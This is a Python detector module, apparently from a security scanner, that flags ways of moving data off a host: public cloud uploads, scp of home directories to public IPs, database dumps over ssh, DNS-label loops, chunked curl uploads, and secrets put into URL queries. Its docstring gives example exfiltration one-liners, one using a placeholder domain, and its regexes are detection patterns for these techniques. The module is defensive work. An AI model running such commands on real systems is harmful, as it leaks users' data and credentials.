"""Bulk transfers out of the host that exfil_flow's credential-source rule does not cover.

exfil_flow asks "does a credential file reach a network client?". Data leaves in other ways:
- cloud storage copies that publish or hand data to a stranger's bucket: `--acl public-read`,
  `--no-sign-request` (an anonymous, world-writable bucket cannot be the user's own), a backup
  copied from one bucket into another;
- a copy of a home or data directory (`scp -r ~/projects … user@203.0.113.5:`) to a public IP;
- a database dump streamed over `ssh` to another machine;
- data cut into DNS labels in a loop (`for c in $(xxd -p f); do dig $c.x.example; done`) or into
  chunks uploaded one by one (`split … && for p in part_*; do curl -F f=@$p …`);
- code that puts a secret environment variable into a URL's query as *data* (`?d=` +
  `os.environ['AWS_SECRET_ACCESS_KEY']`), not as the credential the service itself asks for.
Each is HIGH (a human looks); a credential file published or sent this way is CRITICAL.
"""

from __future__ import annotations

import ipaddress

from aegis_mcp.engine import regex
from aegis_mcp.engine.detectors import shell_parse
from aegis_mcp.engine.detectors.base import Role, ScanContext
from aegis_mcp.engine.detectors.exfil_flow import _dump_file, _name_args, _sensitive
from aegis_mcp.engine.detectors.exfil_leaks import env_substitution
from aegis_mcp.engine.detectors.exfil_ssrf import internal_kind
from aegis_mcp.engine.model import RiskLevel, Signal

# What a fragment must contain for any rule here to fire (added to exfil.GATE: a necessary condition).
TRANSFER_GATE_PATTERN = (
    r"(?i)\b(?:aws|gsutil|gcloud|az|azcopy|rclone|scp|rsync|sftp)\s|\bssh\s|\b(?:dig|nslookup|host|drill)\s[^\n;&|]*\$"
    r"|\bsplit\s|os\.environ|os\.getenv|process\.env|getenv\(|\$\{?[A-Z][A-Z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|KEY)"
)
_GATE = regex.compile(TRANSFER_GATE_PATTERN)

_SHELL_WORDS = frozenset({"shell", "bash", "sh", "exec", "execute", "command", "terminal", "run", "cmd", "powershell", "zsh",
                          "python", "code", "script", "node", "eval", "interpreter", "sandbox"})
_COPY_VERBS = {"aws": ("cp", "sync", "mv"), "gsutil": ("cp", "rsync", "mv"), "rclone": ("copy", "sync", "move", "copyto"),
               "azcopy": ("copy", "cp", "sync"), "gcloud": ("cp", "rsync")}
_BUCKET = ("s3://", "gs://", "gcs://", "az://", "abfs://", "abfss://", "wasb://", "wasbs://", "https://")
_PUBLIC_ACL = ("public-read", "public-read-write", "authenticated-read", "publicread", "allusers")
_DATA_DIRS = ("/var/backups", "/var/lib/postgresql", "/var/lib/mysql", "/var/lib/mongodb", "/srv/data", "/data", "/home/", "~",
              "$home", "/root", "/var/lib/docker/volumes")
# Options that take no value (so the word after them is positional)
_BOOL_OPTS = frozenset({"--recursive", "--no-sign-request", "--quiet", "--dryrun", "--dry-run", "--delete", "--force",
                        "--no-progress", "--only-show-errors", "--follow-symlinks", "--no-follow-symlinks", "--exact-timestamps",
                        "--size-only", "--no-guess-mime-type", "--progress", "--verbose", "--checksum", "--update"})
_DATA_EXT = (".csv", ".tsv", ".xlsx", ".xls", ".parquet", ".jsonl", ".ndjson", ".avro")

_DUMP_TO_SSH = regex.compile(
    r"(?i)\b(?:pg_dump(?:all)?|mysqldump|mariadb-dump|mongodump|mongoexport|sqlite3\s+\S+\s+\.dump)\b[^\n;&]{0,300}\|"
    r"(?:[^\n;&|]{0,200}\|)*\s*ssh\s+(?:-\S+\s+)*(\S+)")
_DNS_LOOP = regex.compile(r"(?i)\b(?:dig|nslookup|host|drill)\s+(?:[+-]\S+\s+)*[\"']?\$\{?\w+\}?[\w.-]{0,60}\.[a-z0-9-]{2,63}\.[a-z]{2,}")
_ENCODERS = regex.compile(r"(?i)\b(?:xxd|base64|base32|od|hexdump|basenc)\b")
_CHUNKED = regex.compile(r"(?i)\bsplit\s[^\n]{0,200}(?:;|&&|\n)[^\n]{0,200}\bfor\s+\w+\s+in\b[^\n]{0,200}\b(?:curl|wget|nc|ncat)\b")
# A secret-named variable spliced into a URL's query value (Python, JS, shell); group 1 the parameter name.
_SECRET_VAR = r"[A-Za-z_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|PRIVATE_KEY|ACCESS_KEY|API_KEY|CREDENTIAL)[A-Za-z0-9_]*"
_ENV_IN_QUERY = regex.compile(
    r"[?&]([A-Za-z0-9_]{1,24})=(?:['\"]\s*\+\s*|\{)?\s*(?:os\.environ\s*\[\s*['\"]" + _SECRET_VAR + r"|os\.(?:environ\.get|getenv)\s*\(\s*['\"]"
    + _SECRET_VAR + r"|process\.env\.?\[?['\"]?" + _SECRET_VAR + r"|\$\{?" + _SECRET_VAR + r")")
# Parameter names under which a secret is the service's own credential (`?api_key=$API_KEY`).
_AUTH_PARAMS = frozenset({"key", "api_key", "apikey", "token", "access_token", "auth", "authorization", "secret",
                          "client_secret", "password", "sig", "signature", "code", "app_key", "appid", "app_id", "bot"})


def _public_ip(host: str) -> bool:
    try:
        ip = ipaddress.ip_address(host.strip("[]"))
    except ValueError:
        return False
    # (documentation ranges count as public: internal_kind is the project's notion of "inside")
    return not (ip.is_loopback or ip.is_link_local or ip.is_multicast or ip.is_unspecified) and internal_kind(host) is None


def _data_source(arg: str) -> str:
    """Why a copied path is someone's data ('' when it is a build artefact or an ordinary file)."""
    a = arg.strip("'\"").lower().replace("\\", "/")
    if _sensitive(arg):
        return _sensitive(arg)
    if _dump_file(a.split("://", 1)[-1]):
        return "a database dump or backup"
    if a.endswith(_DATA_EXT):
        return "a data file"
    if any(a == d or a.startswith(d + "/") or (d.endswith("/") and a.startswith(d)) for d in _DATA_DIRS):
        return "a home or data directory"
    if a.startswith(("/", "~")) and not _DATA_SEGMENTS.isdisjoint(a.split("/")[1:]):
        return "a data directory"  # `/srv/app/data`, `/opt/crm/exports/`: named for what it holds
    if a.startswith(_BUCKET[:-1]) and not (_DATA_SEGMENTS | _DATA_BUCKET_WORDS).isdisjoint(_WORD_SPLIT.split(a.split("://", 1)[1])):
        return "a data bucket"  # `gs://acme-prod-exports`, `s3://billing-backups/2026/`
    return ""


_DATA_BUCKET_WORDS = frozenset({"prod", "production", "pii", "payroll", "billing", "finance", "hr", "customer", "crm", "ledger", "warehouse"})
_WORD_SPLIT = regex.compile(r"[/_.:-]+")


# Directory names that say "records live here" (a build's dist/ or public/ says the opposite).
_DATA_SEGMENTS = frozenset({"data", "backup", "backups", "dump", "dumps", "export", "exports", "db", "database", "databases",
                            "customers", "users", "records", "uploads", "secrets", "vault", "pgdata", "mysql"})


def _cloud_copy(name: str, args: list[str], path: str, out: list[Signal]) -> None:
    verbs = _COPY_VERBS.get(name)
    if verbs is None:
        return
    if name == "gsutil":  # global options before the verb (`gsutil -m cp`, `gsutil -o K=V cp`)
        while args and args[0].startswith("-"):
            args = args[2:] if args[0] in ("-o", "-h", "-u") else args[1:]
    low = [a.lower() for a in args[:64]]
    skip = 2 if name in ("aws", "gcloud") else 1
    if name == "aws" and low[:1] != ["s3"] or name == "gcloud" and low[:1] != ["storage"]:
        return
    if len(low) < skip or low[skip - 1] not in verbs:
        return
    # positional arguments, past option values (`--acl public-read`, `--region eu-west-1`)
    plain: list[str] = []
    prev_opt = False
    for a in args[skip:64]:
        if a.startswith("-"):
            prev_opt = a.startswith("--") and "=" not in a and a not in _BOOL_OPTS
            continue
        if not prev_opt:
            plain.append(a)
        prev_opt = False
    remote = [i for i, a in enumerate(plain) if a.lower().startswith(_BUCKET) or (name == "rclone" and ":" in a.split("/", 1)[0])]
    if not remote or remote[-1] == 0:
        return  # a download, or a listing
    src, dst = plain[:remote[-1]], plain[remote[-1]]
    flags = " ".join(low)
    why = [r for r in map(_data_source, src) if r]
    cred = [s for s in src if _sensitive(s)]
    if cred:
        out.append(Signal("data_exfiltration", "secrets_to_storage", f"{_sensitive(cred[0])} copied by {name} to {dst[:80]}",
                          RiskLevel.CRITICAL, path))
    elif any(acl in flags for acl in _PUBLIC_ACL) or "--no-sign-request" in flags:
        out.append(Signal("data_exfiltration", "public_upload",
                          f"{name} copies data to {dst[:80]} publicly or into an anonymous bucket", RiskLevel.HIGH, path))
    elif any(s.lower().startswith(_BUCKET) for s in src) and why:
        out.append(Signal("data_exfiltration", "bucket_to_bucket",
                          f"{why[0]} copied from one bucket into another ({dst[:80]})", RiskLevel.HIGH, path))


def _copy_to_ip(name: str, args: list[str], path: str, out: list[Signal]) -> None:
    if name not in ("scp", "rsync", "sftp"):
        return
    dests = [a for a in args if not a.startswith("-") and ":" in a and "@" in a.split(":", 1)[0]]
    if not dests:
        return
    host = dests[-1].split(":", 1)[0].rsplit("@", 1)[-1]
    if not _public_ip(host):
        return
    srcs = [a for a in args if not a.startswith("-") and a not in dests]
    # (a site deployed by IP, `rsync -a public/ deploy@203.0.113.10:/var/www/`, is ordinary: only
    # a home or data directory, a dump or a data file makes it a copy of someone's data)
    why = next((r for r in map(_data_source, srcs) if r), "")
    if why:
        out.append(Signal("data_exfiltration", "copy_to_public_ip",
                          f"{why} copied by {name} to a raw public address ({host})", RiskLevel.HIGH, path))


def _judge(text: str, path: str, out: list[Signal]) -> None:
    head = text[:16384]
    for cmd in shell_parse.split(head)[:64]:
        name, args = _name_args(cmd.words)
        _cloud_copy(name, args, path, out)
        _copy_to_ip(name, args, path, out)
    m = _DUMP_TO_SSH.search(head)
    if m is not None:
        out.append(Signal("data_exfiltration", "dump_over_ssh", f"a database dump streamed over ssh to {m.group(1)[:60]}",
                          RiskLevel.HIGH, path))
    if _DNS_LOOP.search(head) and _ENCODERS.search(head):
        out.append(Signal("data_exfiltration", "dns_exfiltration", "encoded data looked up as DNS names, label by label",
                          RiskLevel.CRITICAL, path))
    if _CHUNKED.search(head):
        out.append(Signal("data_exfiltration", "chunked_upload", "a file split into chunks uploaded one by one", RiskLevel.HIGH, path))
    for q in _ENV_IN_QUERY.finditer(head):
        if q.group(1).lower() not in _AUTH_PARAMS:
            out.append(Signal("data_exfiltration", "secret_in_query", f"a secret environment variable sent as ?{q.group(1)}= data",
                              RiskLevel.HIGH, path))
            break


def transfers(ctx: ScanContext) -> list[Signal]:
    shellish = bool(ctx.tool_words & _SHELL_WORDS)
    out: list[Signal] = []
    for f in ctx.fragments:
        if f.is_key or not (f.role is Role.SHELL or (shellish and f.role in (Role.TEXT, Role.UNKNOWN, Role.IDENT, Role.CONTENT))):
            continue
        if env_substitution(f.raw):
            out.append(Signal("data_exfiltration", "secrets_sent_out",
                              "a network client handed the environment or a credential file through $(…)", RiskLevel.CRITICAL, f.path))
        if not _GATE.search(f.raw[:16384]):
            continue
        before = len(out)
        _judge(f.raw, f.path, out)
        if len(out) - before > 3:
            del out[before + 3:]
    return out
